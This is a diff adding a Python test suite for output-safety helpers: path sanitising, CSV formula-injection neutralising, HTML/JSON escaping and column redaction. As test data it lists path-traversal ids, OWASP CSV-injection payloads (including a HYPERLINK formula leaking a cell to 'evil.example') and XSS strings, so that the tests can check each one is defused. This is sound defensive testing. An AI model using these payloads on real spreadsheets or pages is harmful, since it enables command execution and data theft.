@@ -1,0 +1,340 @@
+"""Output safety helpers: path components, CSV formula injection, HTML/JSON escaping,
+redaction. Oracles: the OWASP CSV-injection payload list (published), Python's own
+``csv``/``json``/``html.parser`` modules reading back what we wrote (independent), and
+known-truth hostile ids."""
+
+from __future__ import annotations
+
+import csv
+import html
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from patterns import schema
+from patterns.privacy import (
+    FORMULA_PREFIXES,
+    FREE_TEXT_COLUMNS,
+    escape_html,
+    json_for_html,
+    redact_frame,
+    safe_cell,
+    safe_csv,
+    safe_frame,
+    safe_join,
+    safe_path_component,
+)
+
+HOSTILE_IDS = [
+    "../../etc",
+    "..",
+    ".",
+    "/etc/passwd",
+    "C:\\Windows\\system32",
+    "\\\\server\\share",
+    "CON",
+    "nul.txt",
+    "Com1",
+    "LPT9.log",
+    "a\x00b",
+    "evil\u202egnp.exe",  # right-to-left override
+    "zero\u200bwidth",
+    "line\nbreak",
+    "x" * 500,
+    "",
+    " ",
+    "...",
+    "-rf",
+    ".hidden",
+    "Zoë",
+    "Zoe\u0308",  # same name, decomposed
+    "名前",
+    "trailing. ",
+    "a/b",
+    "a_b",
+]
+
+SAFE_NAME = re.compile(r"^[A-Za-z0-9_][A-Za-z0-9._-]*$")
+RESERVED = re.compile(r"^(con|prn|aux|nul|com\d|lpt\d)(\..*)?$", re.IGNORECASE)
+
+
+# --- safe_path_component ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", HOSTILE_IDS)
+def test_hostile_ids_stay_inside_folder(tmp_path: Path, value: str) -> None:
+    name = safe_path_component(value)
+    assert SAFE_NAME.match(name), name
+    assert name not in {".", ".."}
+    assert not RESERVED.match(name), name
+    assert len(name) <= 64
+    assert not name.endswith((".", " "))
+    # independent check: the OS resolves it to a direct child of tmp_path
+    target = tmp_path / name
+    target.mkdir()
+    assert target.resolve().parent == tmp_path.resolve()
+    assert safe_path_component(value) == name  # stable
+
+
+def test_plain_ids_unchanged_and_changed_ones_hashed() -> None:
+    assert safe_path_component("couple_01") == "couple_01"
+    assert safe_path_component("c-1.v2") == "c-1.v2"
+    out = safe_path_component("../../etc")
+    assert re.fullmatch(r"etc-[0-9a-f]{8}", out)
+    # distinct ids that slug alike stay distinct thanks to the hash
+    assert safe_path_component("a/b") != safe_path_component("a_b") == "a_b"
+    assert safe_path_component("Zoë") != safe_path_component("Zoe")
+    # a crafted id that looks like another's slug is suffixed again
+    crafted = safe_path_component("../../etc")
+    assert safe_path_component(crafted) != crafted
+
+
+def test_max_len_respected_and_readable() -> None:
+    out = safe_path_component("couple-" + "x" * 300, max_len=20)
+    assert len(out) == 20 and out.startswith("couple-x")
+
+
+@pytest.mark.parametrize("bad", [0, 15, "64", 3.5, True])
+def test_max_len_errors(bad) -> None:
+    with pytest.raises(ValueError, match="safe_path_component: max_len must be an int >= 16"):
+        safe_path_component("c1", max_len=bad)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=120), st.text(max_size=120))
+def test_path_component_property(a: str, b: str) -> None:
+    na, nb = safe_path_component(a), safe_path_component(b)
+    assert SAFE_NAME.match(na) and len(na) <= 64 and not RESERVED.match(na)
+    if a != b:
+        assert na != nb
+
+
+def test_safe_join(tmp_path: Path) -> None:
+    p = safe_join(tmp_path, "../../etc", "index.html")
+    assert p.parent.parent == tmp_path
+    assert p.name == "index.html"
+    # a symlink *inside* base that points out is refused
+    (tmp_path / "ok").symlink_to("/")
+    with pytest.raises(ValueError, match="resolves outside"):
+        safe_join(tmp_path, "ok", "etc")
+
+
+# --- CSV formula injection ------------------------------------------------------------------
+
+# OWASP "CSV Injection" page payloads (https://owasp.org/www-community/attacks/CSV_Injection)
+OWASP_PAYLOADS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "\n=1+2",
+    "\x00=1+2",
+]
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_safe_cell_neutralises_owasp(payload: str) -> None:
+    out = safe_cell(payload)
+    assert out == "'" + payload
+    assert not out.startswith("\t")  # CVE-2021-41270: never a tab prefix
+
+
+@pytest.mark.parametrize("value", ["money", "", "a=b", "3 + 4", "'quoted", " =x"])
+def test_safe_cell_leaves_ordinary_text(value: str) -> None:
+    assert safe_cell(value) == value
+
+
+@pytest.mark.parametrize("value", [-1, -2.5, 0, np.int64(-3), np.float64(-0.5), None, True])
+def test_safe_cell_numbers_stay_numbers(value) -> None:
+    assert safe_cell(value) is value
+
+
+def test_formula_prefixes_match_owasp_list() -> None:
+    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r", "\n", "\x00"}
+
+
+def _hostile_frame() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "topic": pd.Series([*OWASP_PAYLOADS, "money", None], dtype="string"),
+            "label": pd.Series([*OWASP_PAYLOADS, "fine", None], dtype=object),
+            "kind": pd.Categorical([*OWASP_PAYLOADS, "x", "x"]),
+            "value": np.arange(11, dtype=float) - 5.5,
+            "count": np.arange(11) - 3,
+            "mixed": pd.Series([-1, "=1", 2.5, "@x", None, "ok", 1, 2, 3, 4, 5], dtype=object),
+            "=evil_header": 1,
+        }
+    )
+
+
+def test_safe_frame_vs_csv_module(tmp_path: Path) -> None:
+    df = _hostile_frame()
+    before = df.copy()
+    path = safe_csv(df, tmp_path / "out.csv")
+    pd.testing.assert_frame_equal(df, before)  # input not mutated
+    with path.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    header, body = rows[0], rows[1:]
+    assert header[-1] == "'=evil_header"
+    assert len(body) == len(df)
+    numeric = {"value", "count"}
+    for row in body:
+        for col, cell in zip(header, row, strict=True):
+            if col in numeric:
+                float(cell)  # real numbers stay numbers (negative ones included)
+                continue
+            if col == "mixed" and re.fullmatch(r"-?\d+(\.\d+)?", cell):
+                continue  # numbers stored as numbers in an object column
+            assert not cell.startswith(FORMULA_PREFIXES), (col, cell)
+    # round trip: stripping the one added quote gives the original strings back
+    back = pd.read_csv(path, dtype=str, keep_default_na=False)
+    expected = [v if v is not None else "" for v in df["label"]]
+    got = [
+        v[1:] if v.startswith("'") and v[1:].startswith(FORMULA_PREFIXES) else v
+        for v in back["label"]
+    ]
+    assert got == expected
+
+
+def test_safe_frame_keeps_dtypes_and_index() -> None:
+    df = _hostile_frame().set_index("label")
+    out = safe_frame(df)
+    assert out["value"].dtype == df["value"].dtype
+    assert out["topic"].dtype == df["topic"].dtype
+    assert isinstance(out["kind"].dtype, pd.CategoricalDtype)
+    assert all(not str(i).startswith(FORMULA_PREFIXES) for i in out.index if i is not None)
+    assert out["topic"].iloc[0] == "'" + OWASP_PAYLOADS[0]
+    assert pd.isna(out["topic"].iloc[-1])
+
+
+def test_safe_csv_index_option(tmp_path: Path) -> None:
+    df = pd.DataFrame({"n": [1]}, index=pd.Index(["=x"], name="@k"))
+    text = safe_csv(df, tmp_path / "a.csv", index=True).read_text()
+    assert text.splitlines() == ["'@k,n", "'=x,1"]
+
+
+# --- HTML -------------------------------------------------------------------------------------
+
+SCRIPT_PAYLOADS = [
+    "</script><script>alert(1)</script>",
+    "</SCRIPT ><img src=x onerror=alert(1)>",
+    "<!--<script>",
+    "a\u2028b\u2029c",
+    "&lt;already&gt;",
+    "\"'`${x}",
+]
+
+
+class _ScriptCollector(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.script: list[str] = []
+        self._in = False
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self._in = tag == "script"
+
+    def handle_endtag(self, tag):
+        self._in = False
+
+    def handle_data(self, data):
+        if self._in:
+            self.script.append(data)
+
+
+@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS)
+def test_json_for_html_in_script_block(payload: str) -> None:
+    obj = {"data": [{"topic": payload, "n": 1}], "title": payload}
+    text = json_for_html(obj)
+    assert json.loads(text) == obj  # still valid JSON, same object
+    for ch in "<>&\u2028\u2029":
+        assert ch not in text
+    # independent: an HTML parser sees exactly one script element with all our JSON inside
+    p = _ScriptCollector()
+    p.feed(f"<html><body><script type='application/json'>{text}</script></body></html>")
+    assert p.tags == ["html", "body", "script"]
+    assert json.loads("".join(p.script)) == obj
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.recursive(
+        st.text() | st.integers() | st.booleans() | st.none(),
+        lambda c: st.lists(c, max_size=4) | st.dictionaries(st.text(), c, max_size=4),
+        max_leaves=20,
+    )
+)
+def test_json_for_html_property(obj) -> None:
+    text = json_for_html(obj)
+    assert json.loads(text) == obj
+    assert not re.search("[<>&\u2028\u2029]", text)
+
+
+def test_json_for_html_passes_kwargs() -> None:
+    assert json_for_html({"b": 1, "a": "<"}, sort_keys=True) == '{"a": "\\u003c", "b": 1}'
+    with pytest.raises(ValueError, match="Out of range float"):
+        json_for_html(float("nan"), allow_nan=False)
+
+
+@pytest.mark.parametrize("payload", SCRIPT_PAYLOADS + ['<img src=x onerror="alert(1)">'])
+def test_escape_html_independent_parser(payload: str) -> None:
+    out = escape_html(payload)
+    p = _ScriptCollector()
+    p.feed(f"<p title='{out}'>{out}</p>")
+    assert p.tags == ["p"]  # no element injected
+    assert html.unescape(out) == payload
+    assert "<" not in out and ">" not in out and '"' not in out and "'" not in out
+
+
+@pytest.mark.parametrize("value", [None, pd.NA, float("nan")])
+def test_escape_html_missing(value) -> None:
+    assert escape_html(value) == ""
+
+
+def test_escape_html_numbers() -> None:
+    assert escape_html(3.5) == "3.5"
+
+
+# --- redaction ----------------------------------------------------------------------------
+
+
+def test_redact_frame_drops_every_private_schema_column() -> None:
+    private = [c.name for cols in schema.TABLES.values() for c in cols if c.private]
+    assert set(private) <= set(FREE_TEXT_COLUMNS)
+    assert {"note", "answer"} <= set(private)
+    df = pd.DataFrame(
+        {"couple_id": ["c1"], "note": ["Sam"], "answer": ["x"], "name": ["Ann"], "n": [1]}
+    )
+    df.attrs["timezones"] = {"c1": "UTC"}
+    before = df.copy()
+    out = redact_frame(df)
+    assert list(out.columns) == ["couple_id", "n"]
+    assert out.attrs == {"timezones": {"c1": "UTC"}}
+    pd.testing.assert_frame_equal(df, before)
+    kept = redact_frame(df, allow_text=True)
+    pd.testing.assert_frame_equal(kept, df)
+    assert list(redact_frame(df, allow_text=True, extra=["n"]).columns) == [
+        "couple_id",
+        "note",
+        "answer",
+        "name",
+    ]
+
+
+def test_redact_frame_errors() -> None:
+    with pytest.raises(ValueError, match="redact_frame: allow_text must be True or False"):
+        redact_frame(pd.DataFrame(), allow_text="yes")
+    with pytest.raises(ValueError, match="redact_frame: df must be a pandas DataFrame"):
+        redact_frame({"note": [1]})
